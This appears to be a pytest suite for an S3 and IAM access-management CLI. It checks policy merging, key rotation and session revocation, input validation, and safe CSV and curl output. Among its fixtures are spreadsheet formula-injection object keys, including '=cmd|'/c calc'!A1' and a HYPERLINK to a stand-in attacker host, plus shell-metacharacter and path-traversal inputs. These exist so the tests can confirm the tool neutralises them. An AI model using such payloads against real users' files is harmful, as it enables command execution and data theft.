"""Promises the app makes that an outside review found broken, each held here against the emulator with
third-party clients (boto3, awscli): a change made by someone else between review and apply is kept; a key
is never forgotten while it still exists; sessions of a deleted key are cut off; what we hand to other tools
keeps working after a rotation; files and commands we produce are safe to open and run."""

import csv
import datetime
import email.utils
import json
import os
import pty
import select
import shlex
import subprocess
import time

import pytest

from conftest import ROOT, account_state
from oracle import decide, policies_of, req


def seed(iam, s3):
    s3.create_bucket(Bucket="data")
    s3.put_object(Bucket="data", Key="in/report.txt", Body=b"quarterly numbers")


def grant(cli, user="vendor", *extra):
    return cli.json("grant", "iam-user", "--bucket", "data", "--prefix", "in", "--access", "read", "--user", user, "--yes", *extra)


def policy_of(s3, bucket):
    return json.loads(s3.get_bucket_policy(Bucket=bucket)["Policy"])


class Terminal:
    """`s3aw` with a terminal on stdin (so it asks before applying), read until a prompt appears."""

    def __init__(self, cli, *args):
        self.master, slave = pty.openpty()
        self.proc = subprocess.Popen([str(cli.exe), *args], stdin=slave, stdout=subprocess.PIPE, stderr=slave, env=cli.env(), text=True)
        os.close(slave)
        self.seen = ""

    def wait_for(self, text, timeout=60):
        end = time.monotonic() + timeout
        while text not in self.seen:
            left = end - time.monotonic()
            assert left > 0, f"{text!r} never appeared; saw:\n{self.seen}"
            if select.select([self.master], [], [], left)[0]:
                try:
                    self.seen += os.read(self.master, 4096).decode(errors="replace")
                except OSError:
                    break
        return self.seen

    def answer(self, line):
        os.write(self.master, (line + "\n").encode())

    def finish(self):
        out, _ = self.proc.communicate(timeout=120)
        try:
            while select.select([self.master], [], [], 0.2)[0]:
                self.seen += os.read(self.master, 4096).decode(errors="replace")
        except OSError:
            pass
        os.close(self.master)
        return self.proc.returncode, out, self.seen


# ---- A. Apply runs what was reviewed, on the account as it is then ------------------------------------------


def test_a_policy_another_admin_changed_after_the_review_is_kept(cli, aws, iam, s3):
    """Between the review and the answer "y", another admin adds an emergency Deny with boto3. The apply
    merges ours into the policy as it is then (and says so), so the Deny stays."""
    seed(iam, s3)
    term = Terminal(cli, "bucket", "change", "data", "--tls-only")
    term.wait_for("Apply these 1 change(s)?")
    emergency = {"Sid": "EmergencyDeny", "Effect": "Deny", "Principal": "*", "Action": "s3:DeleteObject", "Resource": "arn:aws:s3:::data/*"}
    s3.put_bucket_policy(Bucket="data", Policy=json.dumps({"Version": "2012-10-17", "Statement": [emergency]}))
    term.answer("y")
    code, out, seen = term.finish()
    assert code == 0, seen
    assert "re-merged" in seen, seen
    sids = [st.get("Sid") for st in policy_of(s3, "data")["Statement"]]
    assert sids == ["EmergencyDeny", "DenyInsecureTransport"], sids


def test_a_cors_edit_on_rules_that_changed_since_the_review_changes_nothing(cli, aws, iam, s3):
    seed(iam, s3)
    s3.put_bucket_cors(Bucket="data", CORSConfiguration={"CORSRules": [{"AllowedOrigins": ["https://a.example.com"], "AllowedMethods": ["GET"]}]})
    term = Terminal(cli, "bucket", "change", "data", "--delete-cors-rule", "1", "--block-public-access")
    term.wait_for("Apply these 2 change(s)?")
    theirs = [{"AllowedOrigins": ["https://b.example.com"], "AllowedMethods": ["GET"]}]
    s3.put_bucket_cors(Bucket="data", CORSConfiguration={"CORSRules": theirs})
    before = account_state(iam, s3, cli)
    term.answer("y")
    code, out, seen = term.finish()
    assert code == 1, seen
    assert "changed since you reviewed it: review again" in seen and "Nothing was changed" in seen, seen
    assert account_state(iam, s3, cli) == before
    assert s3.get_bucket_cors(Bucket="data")["CORSRules"][0]["AllowedOrigins"] == ["https://b.example.com"]


def test_delete_key_elsewhere_is_refused_and_our_copy_kept(cli, aws, iam, s3):
    """Connected to another account or endpoint, AWS would say "no such key" for a key that exists: the
    delete is refused before anything is removed, and the key keeps working."""
    seed(iam, s3)
    out = grant(cli)
    key_id = out["access_key_id"]
    entry = f"123456789012/vendor/{key_id}"
    # Another endpoint (the emulator itself, not the proxy the access was made through).
    proc = cli.run("access", "delete-key", "vendor", "--key", key_id, "--yes", via_proxy=False)
    assert proc.returncode == 1 and "was not deleted" in proc.stderr and "endpoint" in proc.stderr, proc.stderr
    # Another account: the record says the access was made elsewhere.
    path = cli.config_dir / "created.json"
    record = json.loads(path.read_text())
    record["entries"][0]["account"] = "210987654321"
    path.write_text(json.dumps(record))
    proc = cli.run("--json", "access", "delete-key", "vendor", "--key", key_id, "--yes")
    assert proc.returncode == 1 and json.loads(proc.stdout)["error"]["code"] == "out_of_reach", proc.stderr
    assert "account 210987654321" in proc.stderr
    assert [k["AccessKeyId"] for k in iam.list_access_keys(UserName="vendor")["AccessKeyMetadata"]] == [key_id]
    assert cli.keychain_secret(entry) is not None, "the only saved secret of a working key is kept"
    assert json.loads(path.read_text())["entries"][0]["access_key_ids"] == [key_id]


# ---- B. Sessions of a deleted key ------------------------------------------------------------------------


def revoke_policy(iam, user):
    names = iam.list_user_policies(UserName=user)["PolicyNames"]
    if "AWSRevokeOlderSessions" not in names:
        return None
    doc = iam.get_user_policy(UserName=user, PolicyName="AWSRevokeOlderSessions")["PolicyDocument"]
    return json.loads(doc) if isinstance(doc, str) else doc


def test_deleting_the_old_key_cuts_off_its_sessions_unless_asked_not_to(cli, aws, iam, s3):
    """A session made with a key (sts:GetSessionToken, up to 36 hours) outlives the key. Rotation with
    --delete-old, and delete-key, put the console's "revoke older sessions" policy on the user. (The emulator
    does not evaluate aws:TokenIssueTime, so the policy is checked by shape.)"""
    seed(iam, s3)
    grant(cli)
    # The cut-off is AWS's time (the Date of its answer), 30 s back: never this computer's clock.
    aws_time = lambda: email.utils.parsedate_to_datetime(iam.get_user(UserName="vendor")["ResponseMetadata"]["HTTPHeaders"]["date"])
    margin = datetime.timedelta(seconds=30)
    started = (aws_time() - margin - datetime.timedelta(seconds=1)).strftime("%Y-%m-%dT%H:%M:%SZ")
    plan_text = cli.run("access", "rotate", "vendor", "--delete-old", "--yes", check=0).stderr
    ended = (aws_time() - margin + datetime.timedelta(seconds=1)).strftime("%Y-%m-%dT%H:%M:%SZ")
    assert "Cut off all temporary sessions of" in plan_text and "within minutes" in plan_text, plan_text
    doc = revoke_policy(iam, "vendor")
    assert doc is not None
    st = doc["Statement"][0]
    assert (st["Effect"], st["Action"], st["Resource"]) == ("Deny", ["*"], ["*"])
    cutoff = st["Condition"]["DateLessThan"]["aws:TokenIssueTime"]
    assert started <= cutoff <= ended and cutoff.endswith("Z"), (started, cutoff, ended)
    # What AWS decides on the user's policies as stored (the evaluator: moto ignores aws:TokenIssueTime): a
    # session issued before the cut-off is refused, one issued after it works, and so does the long-term key.
    held = policies_of(iam, user="vendor")
    obj = "arn:aws:s3:::data/in/report.txt"
    at = datetime.datetime.fromisoformat(cutoff.replace("Z", "+00:00"))
    before_cut = (at - datetime.timedelta(minutes=5)).strftime("%Y-%m-%dT%H:%M:%SZ")
    after_cut = (at + datetime.timedelta(seconds=1)).strftime("%Y-%m-%dT%H:%M:%SZ")
    assert decide([
        req(held, "s3:GetObject", obj, context={"aws:TokenIssueTime": before_cut}),
        req(held, "s3:GetObject", obj, context={"aws:TokenIssueTime": after_cut}),
        req(held, "s3:GetObject", obj),
    ]) == ["ExplicitlyDenied", "Allowed", "Allowed"]
    # Removable: --keep-sessions leaves sessions alone.
    iam.delete_user_policy(UserName="vendor", PolicyName="AWSRevokeOlderSessions")
    cli.json("access", "rotate", "vendor", "--delete-old", "--keep-sessions", "--yes")
    assert revoke_policy(iam, "vendor") is None
    # delete-key too, by default.
    cli.json("access", "rotate", "vendor", "--yes")
    old = [k["AccessKeyId"] for k in iam.list_access_keys(UserName="vendor")["AccessKeyMetadata"] if k["Status"] == "Inactive"][0]
    out = cli.json("access", "delete-key", "vendor", "--key", old, "--yes")
    assert out["sessions_cut_off"] is True and revoke_policy(iam, "vendor") is not None


# ---- C. Bad input, refused before any call -----------------------------------------------------------------


@pytest.mark.parametrize(
    "args,message",
    [
        (["grant", "iam-user", "--bucket", "data", "--access", "read", "--prefix", "in/../out", "--yes"], '".."'),
        (["grant", "iam-user", "--bucket", "data", "--access", "read", "--prefix", "in\tout", "--yes"], "control character"),
        (["grant", "role", "--bucket", "data", "--access", "read", "--role", "r", "--account", "arn:aws:iam::210987654321:role/*", "--yes"], "wildcard"),
        (["grant", "role", "--bucket", "data", "--access", "read", "--role", "r", "--account", "arn:aws:iam::210987654321:root", "--yes"], "12-digit account ID (210987654321)"),
        (["bucket", "change", "data", "--access-log-bucket", "logs", "--access-log-prefix", "logs/*", "--yes"], "log prefix"),
        (["bucket", "change", "data", "--encrypt", "--kms-key", "arn:aws:kms:us-east-1:1234:key/x", "--yes"], "not a KMS key ARN"),
        (["presign", "s3://data/in/report.txt", "--expires", "99999999999999999999999d"], "at most 7 days"),
        (["presign", "s3://data/in/report.txt", "--expires", "213503982334601d"], "at most 7 days"),
    ],
)
def test_bad_input_is_refused_with_what_to_fix(cli, aws, iam, s3, args, message):
    seed(iam, s3)
    s3.create_bucket(Bucket="logs")
    before = account_state(iam, s3, cli)
    aws.clear_operations()
    proc = cli.run(*args)
    assert proc.returncode == 1, proc.stderr
    assert message in proc.stderr, proc.stderr
    assert "panicked" not in proc.stderr and "overflow" not in proc.stderr
    assert account_state(iam, s3, cli) == before
    assert not [op for op in aws.operations() if not op.startswith(("s3:Head", "s3:Get", "iam:Get", "sts:", "s3:ListObjects"))], aws.operations()


def test_risky_cors_origins_and_another_accounts_kms_key_are_warned_about(cli, iam, s3):
    seed(iam, s3)
    plan = cli.json("bucket", "change", "data", "--cors-origin", "https://*", "--cors-origin", "http://app.example.com", "--dry-run")
    notes = " ".join(plan["notes"])
    assert "far more sites" in notes and "unencrypted" in notes, notes
    plan = cli.json("bucket", "change", "data", "--encrypt", "--kms-key", "arn:aws:kms:us-east-1:210987654321:key/k1", "--dry-run")
    assert any("another AWS account (210987654321)" in n for n in plan["notes"]), plan["notes"]


def test_tls_only_is_not_taken_as_on_from_a_narrow_statement(cli, iam, s3):
    seed(iam, s3)
    narrow = {"Sid": "OnlyGets", "Effect": "Deny", "Principal": "*", "Action": "s3:GetObject", "Resource": "arn:aws:s3:::data/*", "Condition": {"Bool": {"aws:SecureTransport": "false"}}}
    s3.put_bucket_policy(Bucket="data", Policy=json.dumps({"Version": "2012-10-17", "Statement": [narrow]}))
    assert cli.json("bucket", "show", "data")["tls_only"] is False
    plan = cli.json("bucket", "change", "data", "--tls-only", "--dry-run")
    assert [s["call"] for s in plan["steps"]] == ["s3:PutBucketPolicy"]
    cli.json("bucket", "change", "data", "--tls-only", "--yes")
    assert cli.json("bucket", "show", "data")["tls_only"] is True
    assert [st["Sid"] for st in policy_of(s3, "data")["Statement"]] == ["OnlyGets", "DenyInsecureTransport"]


def test_a_new_log_prefix_replaces_our_statement(cli, iam, s3):
    s3.create_bucket(Bucket="my-logs")
    s3.create_bucket(Bucket="my.logs")
    s3.create_bucket(Bucket="logs")
    cli.json("bucket", "change", "my-logs", "--access-log-bucket", "logs", "--access-log-prefix", "a/", "--yes")
    cli.json("bucket", "change", "my.logs", "--access-log-bucket", "logs", "--access-log-prefix", "a/", "--yes")
    sids = [st["Sid"] for st in policy_of(s3, "logs")["Statement"]]
    assert len(sids) == 2 and len(set(sids)) == 2, sids
    cli.json("bucket", "change", "my-logs", "--access-log-bucket", "logs", "--access-log-prefix", "b/", "--yes")
    statements = policy_of(s3, "logs")["Statement"]
    mine = [st for st in statements if st["Condition"]["ArnLike"]["aws:SourceArn"] == "arn:aws:s3:::my-logs"]
    assert len(statements) == 2 and len(mine) == 1, statements
    assert mine[0]["Resource"] == "arn:aws:s3:::logs/b/*"


# ---- D. Files and commands we produce -------------------------------------------------------------------


def test_a_user_name_with_a_comma_is_read_back_from_its_csv(cli, aws, iam, s3, tmp_path):
    seed(iam, s3)
    iam.create_user(UserName="acme,inc")
    key = iam.create_access_key(UserName="acme,inc")["AccessKey"]
    path = tmp_path / "acme.csv"
    with open(path, "w", newline="") as f:
        csv.writer(f).writerows([["User name", "Access key ID", "Secret access key"], ["acme,inc", key["AccessKeyId"], key["SecretAccessKey"]]])
    out = cli.json("access", "import", "--csv", str(path))
    assert out["access_key_id"] == key["AccessKeyId"] and out["user_name"] == "acme,inc", out
    # And the importable CSV we write is read back the same way by Python's csv module.
    exported = tmp_path / "back.csv"
    cli.json("access", "export", out["id"], "--csv", str(exported), "--csv-format", "import")
    rows = list(csv.reader(open(exported, newline="")))
    assert rows[1] == ["acme,inc", key["AccessKeyId"], key["SecretAccessKey"]]


def test_link_lists_are_safe_in_a_spreadsheet_and_curl_commands_in_a_shell(cli, s3, tmp_path):
    s3.create_bucket(Bucket="files")
    awkward = ["share/=HYPERLINK(\"https://evil.example/\"&A2)", "share/it's $HOME.txt", "share/+1.csv", "share/plain.txt"]
    for k in awkward:
        s3.put_object(Bucket="files", Key=k, Body=b"x")
    path = tmp_path / "links.csv"
    cli.json("presign", "s3://files/share/", "--recursive", "--csv", str(path))
    rows = list(csv.reader(open(path, newline="")))
    keys = sorted(r[0] for r in rows[1:])
    assert keys == sorted(["share/=HYPERLINK(\"https://evil.example/\"&A2)", "share/it's $HOME.txt", "share/+1.csv", "share/plain.txt"]), keys
    # A cell a spreadsheet would run as a formula starts with ' (these keys start with "share/"; a key at the
    # top of the bucket would not).
    s3.put_object(Bucket="files", Key="=cmd|'/c calc'!A1", Body=b"x")
    s3.put_object(Bucket="files", Key="@SUM(A1)", Body=b"x")
    top = tmp_path / "top.csv"
    cli.json("presign", "s3://files/", "--recursive", "--csv", str(top))
    cells = [r[0] for r in list(csv.reader(open(top, newline="")))[1:]]
    assert "'=cmd|'/c calc'!A1" in cells and "'@SUM(A1)" in cells, cells
    assert not any(c[:1] in "=+-@" for c in cells), cells
    # The curl command is one word per argument however odd the key.
    link = cli.json("presign", "s3://files/share/it's $HOME.txt")
    words = shlex.split(link["curl"])
    assert words[:3] == ["curl", "-o", "it's $HOME.txt"] and words[3] == link["url"], link["curl"]


def test_without_home_nothing_is_read_from_the_working_directory(cli, tmp_path):
    """Without HOME (normal on Windows), ~/.aws must not resolve against the current folder."""
    work = tmp_path / "work"
    (work / ".aws").mkdir(parents=True)
    (work / ".aws" / "config").write_text("[profile from-the-working-directory]\nregion = eu-west-1\n")
    env = {k: v for k, v in cli.env().items() if k not in ("HOME", "AWS_CONFIG_FILE", "AWS_SHARED_CREDENTIALS_FILE")}
    proc = subprocess.run([str(cli.exe), "--json", "profiles"], cwd=work, env=env, capture_output=True, text=True, timeout=60)
    assert proc.returncode == 0, proc.stderr
    assert "from-the-working-directory" not in proc.stdout


def test_a_secret_saved_nowhere_is_never_printed_and_the_grant_undone(cli, iam, s3, tmp_path):
    seed(iam, s3)
    before = account_state(iam, s3, cli)
    blocker = tmp_path / "not-a-folder"
    blocker.write_text("a file where a folder should be")
    proc = cli.run("--json", "grant", "iam-user", "--bucket", "data", "--access", "read", "--user", "lost", "--yes", "--no-keychain", "--csv", str(blocker / "keys.csv"))
    assert proc.returncode == 4, proc.stderr
    out = json.loads(proc.stdout)
    assert out["error"]["code"] == "secret_not_saved" and "secret_access_key" not in proc.stdout
    assert "Secret access key" not in proc.stdout + proc.stderr
    assert account_state(iam, s3, cli) == before, "the user, policy and key are gone again"
    assert cli.json("access", "list") == []


# ---- E. What we hand to other tools keeps working ---------------------------------------------------------


def test_a_credential_process_profile_survives_rotation_and_fails_plainly_after_revoke(cli, aws, iam, s3):
    seed(iam, s3)
    out = grant(cli)
    cli.json("use-from-aws", "--access", out["access_key_id"], "--aws-profile", "vendor")
    env = cli.env()
    for k in ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_ENDPOINT_URL"):
        env.pop(k)
    aws_cli = [str(ROOT / ".venv" / "bin" / "aws"), "--profile", "vendor", "--endpoint-url", aws.url, "s3", "ls", "s3://data/in/"]

    def ls():
        aws.enforce_iam(True)
        try:
            return subprocess.run(aws_cli, capture_output=True, text=True, env=env, timeout=120)
        finally:
            aws.enforce_iam(False)

    first = ls()
    assert first.returncode == 0 and "report.txt" in first.stdout, first.stderr
    # Rotate and delete the old key (sessions kept, as the emulator cannot evaluate the session cut-off):
    # with enforcement on, the old key is refused, so a listing that works used the new one.
    rotated = cli.json("access", "rotate", "vendor", "--delete-old", "--keep-sessions", "--yes")
    assert rotated["old_key"] == "deleted"
    second = ls()
    assert second.returncode == 0 and "report.txt" in second.stdout, second.stderr
    served = json.loads(cli.run("credential-process", "--access", cli.json("access", "list")[0]["id"], check=0).stdout)
    assert served["AccessKeyId"] == rotated["new_access_key_id"]
    # Revoked: the profile fails with a plain sentence, not a trace.
    cli.json("access", "revoke", "vendor", "--yes")
    third = ls()
    assert third.returncode != 0
    assert "is no longer on this computer" in third.stderr, third.stderr
    assert "Traceback" not in third.stderr and "panicked" not in third.stderr
